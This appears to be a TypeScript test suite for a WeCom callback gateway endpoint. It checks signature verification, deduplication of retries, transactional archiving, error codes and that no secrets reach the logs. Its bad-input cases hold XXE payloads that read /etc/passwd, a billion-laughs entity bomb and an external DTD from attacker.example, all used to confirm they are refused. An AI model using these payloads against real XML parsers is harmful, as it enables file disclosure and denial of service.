/**
 * The WeCom callback endpoint (/callback/wecom/:corp) on a real gateway, on
 * SQLite and PostgreSQL: URL verification, events archived once as
 * `wecom.callback` before `success` is answered (a retry is a duplicate,
 * answered `success`), the consent hook's effects in the record's
 * transaction, msgaudit_notify waking the chat-archive puller, 503 when the
 * archive cannot commit, and every kind of bad input refused with its
 * specific code and nothing written. Last, the log is searched for every
 * secret, body and identifier the tests sent.
 */
import { randomBytes } from 'node:crypto';
import * as wecom from '@wecom/crypto';
import type { XmlObject } from '../../connectors/canonical/chat-event';
import type { WecomCallbackEvent } from '../../connectors/wecom/callback/event-types';
import { blindIndex } from '../../gateway/archive/crypto/blind-index';
import { FileKeyStore } from '../../gateway/archive/crypto/file-key-store';
import type { ArchiveEntry } from '../../gateway/archive/types';
import { DATABASE_KINDS } from '../db';
import { expectRefusal, freshNonce, nowSeconds, queryString, rawRequest, type RawResponse } from '../e2e/support';
import { findLeaks, type Planted } from '../log-capture';
import { archivedCallbacks, postPush, rowCounts, sealPush, startWecomHarness, type WecomHarness } from './harness';

const LAUGHS = Array.from({ length: 10 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('\n');

/** WeCom retries anything but 200: the 5xx answer names no cause, only the error id the log line carries. */
function expectBusy(res: RawResponse): void {
  expect({ status: res.status, body: res.body }).toEqual({ status: 503, body: expect.stringMatching(/^system busy \(error id [0-9a-f-]{36}\)$/) as string });
  expect(res.body).toContain(String(res.headers['x-cgw-error-id']));
}

/** A fresh external_userid: unique per test, and planted in the log check. */
const externalUserId = (): string => `wm${randomBytes(12).toString('hex')}CANARYEXT`;

describe.each(DATABASE_KINDS)('WeCom callback endpoint [%s]', (kind) => {
  let h: WecomHarness;
  const effectRuns: { recordId: string; type: string }[] = [];
  const afterArchive: { corp: string; type: string; recordId: string }[] = [];
  let failNextEffect = false;
  const planted: Planted[] = [];

  beforeAll(async () => {
    h = await startWecomHarness(kind, {
      consentEffects(corp: string, event: WecomCallbackEvent): ArchiveEntry['effects'] | undefined {
        if (!event.consent) return undefined;
        return async (tx, recordId) => {
          // A read inside the archive transaction: the effect really runs on the transaction's connection.
          await tx.findOne('ArchiveRecord', { id: recordId });
          if (failNextEffect) {
            failNextEffect = false;
            throw new Error('consent ledger refused the row');
          }
          effectRuns.push({ recordId, type: `${corp}:${event.type}` });
        };
      },
      afterArchive: (corp, event, recordId) => void afterArchive.push({ corp, type: event.type, recordId }),
    });
    planted.push(
      { name: 'callback token', value: h.corp.token, window: 12 },
      { name: 'EncodingAESKey', value: h.corp.encodingAESKey, window: 12 },
    );
  });
  afterAll(async () => {
    await h?.close();
  });

  const event = (fields: XmlObject): XmlObject => ({
    ToUserName: h.corp.corpId, FromUserName: 'sys', CreateTime: String(nowSeconds()), MsgType: 'event', ...fields,
  });
  const approved = (external: string, createTime = String(nowSeconds())): XmlObject => event({
    Event: 'change_external_contact', ChangeType: 'msg_audit_approved', UserID: 'rm-zhangsan', ExternalUserID: external, WelcomeCode: `WC${randomBytes(6).toString('hex')}`, CreateTime: createTime,
  });
  const notify = (): XmlObject => event({ Event: 'msgaudit_notify', AgentID: '2000003' });
  const plant = (push: { body: string; plaintext: string; encrypt: string }, external?: string): void => {
    planted.push({ name: 'Encrypt', value: push.encrypt, window: 24 });
    if (external) planted.push({ name: 'external_userid', value: external });
  };

  describe('URL verification', () => {
    it('answers the decrypted echostr, exactly', async () => {
      const echostr = wecom.encrypt(h.corp.encodingAESKey, '5927782489442352469', h.corp.corpId);
      const timestamp = String(nowSeconds());
      const nonce = freshNonce();
      const query = queryString({ msg_signature: wecom.getSignature(h.corp.token, timestamp, nonce, echostr), timestamp, nonce, echostr });
      const res = await rawRequest(h.url, { method: 'GET', path: `/callback/wecom/${h.corp.id}`, query });
      expect(res.status).toBe(200);
      expect(res.body).toBe('5927782489442352469');
      expect(res.headers['content-type']).toMatch(/^text\/plain/);
    });

    it('refuses a bad msg_signature with 401', async () => {
      const echostr = wecom.encrypt(h.corp.encodingAESKey, '5927782489442352469', h.corp.corpId);
      const query = queryString({ msg_signature: 'a'.repeat(40), timestamp: String(nowSeconds()), nonce: freshNonce(), echostr });
      expectRefusal(await rawRequest(h.url, { method: 'GET', path: `/callback/wecom/${h.corp.id}`, query }), 401, 'bad-msg-signature');
    });

    it('refuses an echostr made for another CorpID with 403 wrong-corpid', async () => {
      const echostr = wecom.encrypt(h.corp.encodingAESKey, '1', 'ww0000000000000000');
      const timestamp = String(nowSeconds());
      const nonce = freshNonce();
      const query = queryString({ msg_signature: wecom.getSignature(h.corp.token, timestamp, nonce, echostr), timestamp, nonce, echostr });
      expectRefusal(await rawRequest(h.url, { method: 'GET', path: `/callback/wecom/${h.corp.id}`, query }), 403, 'wrong-corpid');
    });

    it('answers 404 for a corp without a callback block', async () => {
      expectRefusal(await rawRequest(h.url, { method: 'GET', path: `/callback/wecom/${h.silentCorp.id}`, query: 'echostr=x' }), 404, 'unknown-corp');
    });
  });

  describe('events', () => {
    it('archives msg_audit_approved once as wecom.callback, with its consent effects in the same transaction, and answers a retry success', async () => {
      const external = externalUserId();
      const message = approved(external);
      const before = await rowCounts(h);
      const first = sealPush(h.corp, message);
      plant(first, external);
      const res = await postPush(h, h.corp.id, first);
      expect({ status: res.status, body: res.body }).toEqual({ status: 200, body: 'success' });

      const records = (await archivedCallbacks(h)).filter((r) => (r.payload.event as WecomCallbackEvent).externalUserId === external);
      expect(records).toHaveLength(1);
      const record = records[0]!;
      expect(record.accountId).toBe(h.corp.id);
      expect(record.subject).toBe(external);
      expect(record.occurredAtMs).toBe(Number(message.CreateTime) * 1000);
      expect(record.payload).toMatchObject({
        corpId: h.corp.corpId,
        plaintextXml: first.plaintext,
        event: { type: 'change_external_contact.msg_audit_approved', userId: 'rm-zhangsan', externalUserId: external, consent: { decision: 'agree', externalUserId: external } },
      });
      expect((record.payload.event as Record<string, unknown>).raw).toBeUndefined();
      // The subject is blind-indexed, never stored in clear.
      const indexKey = FileKeyStore.open(h.config.keys.path).indexKey();
      expect(record.row.subjectBidx).toBe(blindIndex(indexKey, 'subject', external));
      expect(effectRuns.filter((e) => e.recordId === record.row.id)).toEqual([{ recordId: record.row.id, type: 'bank-corp:change_external_contact.msg_audit_approved' }]);
      expect(afterArchive.filter((a) => a.recordId === record.row.id)).toEqual([{ corp: 'bank-corp', type: 'change_external_contact.msg_audit_approved', recordId: record.row.id }]);
      expect(await rowCounts(h)).toEqual({ archiveRecord: before.archiveRecord + 1, callbackNonce: before.callbackNonce + 1 });

      // WeCom's retry: the same message, sealed again (new random, timestamp and nonce).
      const retry = sealPush(h.corp, message);
      plant(retry);
      const again = await postPush(h, h.corp.id, retry);
      expect({ status: again.status, body: again.body }).toEqual({ status: 200, body: 'success' });
      // The very same request again (a network-level repeat): the same nonce with the same body is a retry too.
      expect((await postPush(h, h.corp.id, first)).body).toBe('success');
      expect((await archivedCallbacks(h)).filter((r) => (r.payload.event as WecomCallbackEvent).externalUserId === external)).toHaveLength(1);
      expect(effectRuns.filter((e) => e.recordId === record.row.id)).toHaveLength(1);
      expect(afterArchive.filter((a) => a.recordId === record.row.id)).toHaveLength(1);
    });

    it('archives two approvals of different customers in the same second as two records', async () => {
      const createTime = String(nowSeconds());
      const [a, b] = [externalUserId(), externalUserId()];
      for (const external of [a, b]) {
        const push = sealPush(h.corp, approved(external, createTime));
        plant(push, external);
        expect((await postPush(h, h.corp.id, push)).body).toBe('success');
      }
      const subjects = (await archivedCallbacks(h)).map((r) => r.subject);
      expect(subjects).toEqual(expect.arrayContaining([a, b]));
    });

    it('wakes the chat-archive puller on msgaudit_notify, also for a retry, and archives it once', async () => {
      const wakeUp = jest.spyOn(h.gateway.msgaudit, 'wakeUp');
      try {
        const message = notify();
        const before = (await archivedCallbacks(h)).length;
        const first = sealPush(h.corp, message);
        plant(first);
        expect((await postPush(h, h.corp.id, first)).body).toBe('success');
        expect(wakeUp).toHaveBeenCalledTimes(1);
        expect(wakeUp).toHaveBeenLastCalledWith('bank-corp');
        const retry = sealPush(h.corp, message);
        expect((await postPush(h, h.corp.id, retry)).body).toBe('success');
        expect(wakeUp).toHaveBeenCalledTimes(2);
        const records = await archivedCallbacks(h);
        expect(records).toHaveLength(before + 1);
        const archived = records.find((r) => (r.payload.event as WecomCallbackEvent).type === 'msgaudit_notify')!;
        expect(archived.subject).toBeNull();
        expect(archived.payload.event).toMatchObject({ event: 'msgaudit_notify', agentId: '2000003' });
      } finally {
        wakeUp.mockRestore();
      }
    });

    it('archives an unknown event with all its fields', async () => {
      const message = event({ Event: 'change_external_contact', ChangeType: 'some_future_change', UserID: 'rm-lisi', NewThing: { A: '1' } });
      const push = sealPush(h.corp, message);
      plant(push);
      expect((await postPush(h, h.corp.id, push)).body).toBe('success');
      const archived = (await archivedCallbacks(h)).find((r) => (r.payload.event as WecomCallbackEvent).changeType === 'some_future_change');
      expect(archived?.payload).toMatchObject({ plaintextXml: push.plaintext, event: { type: 'unknown', userId: 'rm-lisi', extra: { NewThing: { A: '1' } } } });
    });

    it('answers 503 when the consent effects fail, writes nothing, and archives WeCom\'s retry', async () => {
      const external = externalUserId();
      const message = approved(external);
      const before = await rowCounts(h);
      failNextEffect = true;
      const push = sealPush(h.corp, message);
      plant(push, external);
      expectBusy(await postPush(h, h.corp.id, push));
      expect(await rowCounts(h)).toEqual(before);
      const retry = sealPush(h.corp, message);
      expect((await postPush(h, h.corp.id, retry)).body).toBe('success');
      expect(await rowCounts(h)).toEqual({ archiveRecord: before.archiveRecord + 1, callbackNonce: before.callbackNonce + 1 });
    });

    it('answers 503 while the database is unavailable, then archives the same request when WeCom retries it', async () => {
      const external = externalUserId();
      const push = sealPush(h.corp, approved(external));
      plant(push, external);
      const before = await rowCounts(h);
      await h.gateway.dataSource.destroy();
      try {
        expectBusy(await postPush(h, h.corp.id, push));
      } finally {
        await h.gateway.dataSource.initialize();
      }
      expect(await rowCounts(h)).toEqual(before);
      expect((await postPush(h, h.corp.id, push)).body).toBe('success');
      expect(await rowCounts(h)).toEqual({ archiveRecord: before.archiveRecord + 1, callbackNonce: before.callbackNonce + 1 });
    });
  });

  describe('bad input: a specific error and nothing written', () => {
    type Case = [name: string, send: () => Promise<RawResponse>, status: number, code: string];
    const cases: Case[] = [
      ['a bad msg_signature', async () => {
        const p = sealPush(h.corp, notify());
        return postPush(h, h.corp.id, { ...p, query: { ...p.query, msg_signature: '0'.repeat(40) } });
      }, 401, 'bad-msg-signature'],
      ['a signature made with another token', async () => postPush(h, h.corp.id, sealPush(h.corp, notify(), { token: 'NotTheCorpToken1' })), 401, 'bad-msg-signature'],
      ['a ciphertext for another CorpID (wrong receiveid)', async () => postPush(h, h.corp.id, sealPush(h.corp, notify(), { receiveId: h.silentCorp.corpId })), 403, 'wrong-corpid'],
      ['a stale timestamp', async () => postPush(h, h.corp.id, sealPush(h.corp, notify(), { timestamp: String(nowSeconds() - 3600) })), 403, 'stale-timestamp'],
      ['a body over the size limit', async () => {
        const p = sealPush(h.corp, notify());
        return postPush(h, h.corp.id, { ...p, body: p.body.replace('</xml>', `<Pad>${'x'.repeat(70_000)}</Pad></xml>`) });
      }, 413, 'oversized'],
      ['a chunked body over the size limit', async () => {
        const p = sealPush(h.corp, notify());
        return postPush(h, h.corp.id, { ...p, body: p.body.replace('</xml>', `<Pad>${'x'.repeat(70_000)}</Pad></xml>`) }, { chunked: true });
      }, 413, 'oversized'],
      ['malformed XML', async () => {
        const p = sealPush(h.corp, notify());
        return postPush(h, h.corp.id, { ...p, body: p.body.slice(0, -12) });
      }, 400, 'malformed-xml'],
      ['malformed XML inside the ciphertext', async () => postPush(h, h.corp.id, sealPush(h.corp, '<xml><Event>msgaudit_notify</Event>')), 400, 'malformed-xml'],
      ['an external entity (XXE) in the envelope', async () => {
        const p = sealPush(h.corp, notify());
        return postPush(h, h.corp.id, { ...p, body: `<?xml version="1.0"?>\n<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n${p.body.replace('</xml>', '<X>&xxe;</X></xml>')}` });
      }, 400, 'xml-entity'],
      ['billion laughs in the envelope', async () => {
        const p = sealPush(h.corp, notify());
        return postPush(h, h.corp.id, { ...p, body: `<!DOCTYPE xml [\n<!ENTITY lol0 "lol">\n${LAUGHS}\n]>\n${p.body.replace('</xml>', '<X>&lol10;</X></xml>')}` });
      }, 400, 'xml-entity'],
      ['a DTD in the envelope', async () => {
        const p = sealPush(h.corp, notify());
        return postPush(h, h.corp.id, { ...p, body: `<!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd">${p.body}` });
      }, 400, 'xml-doctype'],
      ['an external entity inside the ciphertext', async () => postPush(h, h.corp.id, sealPush(h.corp, '<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><ToUserName>&xxe;</ToUserName></xml>')), 400, 'xml-entity'],
      ['a body without Encrypt', async () => {
        const p = sealPush(h.corp, notify());
        return postPush(h, h.corp.id, { ...p, body: `<xml><ToUserName><![CDATA[${h.corp.corpId}]]></ToUserName><AgentID>2000003</AgentID></xml>` });
      }, 400, 'missing-field'],
      ['a clear AgentID that disagrees with the encrypted message', async () => {
        const p = sealPush(h.corp, notify());
        return postPush(h, h.corp.id, { ...p, body: p.body.replace('<AgentID><![CDATA[2000003]]>', '<AgentID><![CDATA[1000001]]>') });
      }, 400, 'field-mismatch'],
      ['a decrypted message without CreateTime', async () => {
        const { CreateTime: _c, ...message } = notify();
        return postPush(h, h.corp.id, sealPush(h.corp, message));
      }, 400, 'missing-field'],
      ['a repeated query parameter', async () => {
        const p = sealPush(h.corp, notify());
        return postPush(h, h.corp.id, { body: p.body, query: `${queryString(p.query)}&nonce=1` });
      }, 400, 'repeated-param'],
      ['an unknown corp', async () => postPush(h, 'no-such-corp', sealPush(h.corp, notify())), 404, 'unknown-corp'],
      ['a corp without a callback block', async () => postPush(h, h.silentCorp.id, sealPush(h.silentCorp, notify())), 404, 'unknown-corp'],
      ['a PUT', async () => postPush(h, h.corp.id, sealPush(h.corp, notify()), { method: 'PUT' }), 405, 'method-not-allowed'],
    ];

    it.each(cases)('refuses %s', async (_name, send, status, code) => {
      const before = await rowCounts(h);
      expectRefusal(await send(), status, code);
      expect(await rowCounts(h)).toEqual(before);
    });

    it('refuses a replayed nonce (the signed query with the same Encrypt in other bytes) with 403 and writes nothing more', async () => {
      // A new event (a msgaudit_notify of the same second would be a duplicate, whose nonce the archive has no reason to keep).
      const before = await rowCounts(h);
      const push = sealPush(h.corp, approved(externalUserId()));
      expect((await postPush(h, h.corp.id, push)).body).toBe('success');
      const after = await rowCounts(h);
      expect(after).toEqual({ archiveRecord: before.archiveRecord + 1, callbackNonce: before.callbackNonce + 1 });
      const rewrapped = push.body.replace('<Encrypt>', '\n  <Encrypt>');
      expectRefusal(await postPush(h, h.corp.id, { query: push.query, body: rewrapped }), 403, 'replayed-nonce');
      expect(await rowCounts(h)).toEqual(after);
    });
  });

  it('counts callbacks in /metrics by corp and outcome', async () => {
    const metrics = await (await fetch(`${h.url}/metrics`)).text();
    expect(metrics).toMatch(/cgw_wecom_callbacks_total\{corp="bank-corp",outcome="archived"\} [1-9]/);
    expect(metrics).toMatch(/cgw_wecom_callbacks_total\{corp="bank-corp",outcome="duplicate"\} [1-9]/);
    expect(metrics).toMatch(/cgw_wecom_callbacks_total\{corp="bank-corp",outcome="bad-msg-signature"\} [1-9]/);
    expect(metrics).toMatch(/cgw_wecom_callback_events_total\{corp="bank-corp",type="msgaudit_notify"\} [1-9]/);
    expect(metrics).toMatch(/cgw_wecom_callback_events_total\{corp="bank-corp",type="change_external_contact.msg_audit_approved"\} [1-9]/);
    expect(metrics).not.toMatch(/no-such-corp/);
  });

  it('logged no body, identifier or secret through all of the above', () => {
    expect(h.logLines.length).toBeGreaterThan(0); // the refusals above were logged
    expect(findLeaks(h.logLines, [...planted, { name: 'corp id', value: h.corp.corpId }])).toEqual([]);
  });
});
